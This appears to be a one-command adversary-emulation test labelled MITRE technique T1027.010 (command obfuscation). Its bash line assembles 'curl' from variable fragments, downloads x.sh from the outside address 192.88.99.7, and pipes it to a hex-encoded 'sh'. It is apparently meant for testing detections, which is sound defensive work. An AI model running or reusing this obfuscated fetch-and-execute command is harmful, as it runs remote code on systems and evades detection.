# title: A command is put together of pieces
# technique: T1027.010
# needs: bash

bash -c 'a=c;b=ur;c=l; $a$b$c -s http://192.88.99.7/x.sh | $(printf "\x73\x68")'
